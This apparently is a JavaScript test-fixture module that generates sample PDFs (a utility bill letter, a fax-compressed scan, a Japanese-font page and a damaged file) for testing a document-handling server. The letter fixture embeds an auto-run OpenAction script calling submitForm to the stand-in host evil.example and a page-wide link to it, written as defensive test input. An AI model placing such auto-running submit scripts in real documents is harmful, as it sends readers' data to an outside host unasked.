// PDF files for tests, made here.

// A file of these objects, the first of which is its catalogue.
function pdf(objects) {
    let text = "%PDF-1.7\n";
    const places = objects.map((object, index) => {
        const place = text.length;
        text += `${index + 1} 0 obj\n${object}\nendobj\n`;
        return `${String(place).padStart(10, "0")} 00000 n \n`;
    });
    const end = `trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF\n`;
    return Buffer.from(`${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join("")}${end}`, "latin1");
}

const stream = (content, more = "") => `<<${more}/Length ${content.length}>>\nstream\n${content}\nendstream`;

// A letter of two pages. Its fonts are those that every program must have, and are not in the file. The second page has
// a tick. It has all that could do harm in a program that obeys: a script at its start, and a link to another site.
export function letter(name) {
    const lines = ["Harbour Water", name, "12 Harbour Road, London EC1Y 8SY", "Your bill for October: 31.40"];
    const text = lines.map(
        (line, index) => `BT /F${index ? 1 : 2} ${index ? 16 : 28} Tf 60 ${740 - 40 * index} Td (${line}) Tj ET`,
    );
    const first = `0.9 0.95 1 rg 40 560 515 240 re f 0 0 0 rg\n${text.join("\n")}`;
    const second =
        "0.8 0.1 0.2 rg 40 700 515 100 re f 0 0 0 rg BT /F3 40 Tf 60 600 Td (4) Tj ET " +
        "BT /F1 16 Tf 110 605 Td (Paid) Tj ET";
    const fonts = ["Helvetica", "Times-Bold", "ZapfDingbats"].map(
        (font, index) => `/F${index + 1} <</Type/Font/Subtype/Type1/BaseFont/${font}>>`,
    );
    const resources = `/Resources<</Font<<${fonts.join("")}>>>>`;
    const page = (content, more = "") =>
        `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]${resources}/Contents ${content} 0 R${more}>>`;
    const link = "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(https://evil.example/)>>>>]";
    return pdf([
        "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript" +
            "/JS(app.alert\\('x'\\); this.submitForm\\('https://evil.example/'\\);)>>>>",
        "<</Type/Pages/Kids[3 0 R 4 0 R]/Count 2>>",
        page(5, link),
        page(6),
        stream(first),
        stream(second),
    ]);
}

// A scan: a page that is one picture in black and white, compressed as fax machines do (CCITT group 4). The picture is
// white above and black below.
export function scan() {
    // 32 rows like the white one before them, one row with a run of 64 black points, 31 rows like it, and the end.
    const bits = [
        "1".repeat(32),
        "001",
        "00110101",
        "0000001111",
        "0000110111",
        "11".repeat(31),
        "000000000001".repeat(2),
    ].join("");
    const data = bits
        .match(/.{1,8}/g)
        .map((byte) => String.fromCharCode(parseInt(byte.padEnd(8, "0"), 2)))
        .join("");
    const picture = stream(
        data,
        "/Type/XObject/Subtype/Image/Width 64/Height 64/ColorSpace/DeviceGray/BitsPerComponent 1" +
            "/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 64/Rows 64>>",
    );
    return pdf([
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</I 5 0 R>>>>/Contents 4 0 R>>",
        stream("595 0 0 842 0 0 cm /I Do"),
        picture,
    ]);
}

// Text in Japanese, by a font that is not in the file. Its characters need tables that the desk does not have.
export function japanese() {
    return pdf([
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R>>",
        stream("0 0 1 rg 40 40 100 100 re f BT /F1 24 Tf 60 700 Td <93fa967b> Tj ET"),
        "<</Type/Font/Subtype/Type0/BaseFont/MS-Gothic/Encoding/90ms-RKSJ-H/DescendantFonts[6 0 R]>>",
        "<</Type/Font/Subtype/CIDFontType2/BaseFont/MS-Gothic" +
            "/CIDSystemInfo<</Registry(Adobe)/Ordering(Japan1)/Supplement 2>>/FontDescriptor 7 0 R>>",
        "<</Type/FontDescriptor/FontName/MS-Gothic/Flags 4/FontBBox[0 -137 1000 859]/ItalicAngle 0/Ascent 859" +
            "/Descent -137/CapHeight 709/StemV 80>>",
    ]);
}

// A file that the server takes because it has a page, which its catalogue does not lead to.
export const damaged = () =>
    pdf([
        "<</Type/Catalog/Pages 7 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/MediaBox[0 0 595 842]>>",
    ]);
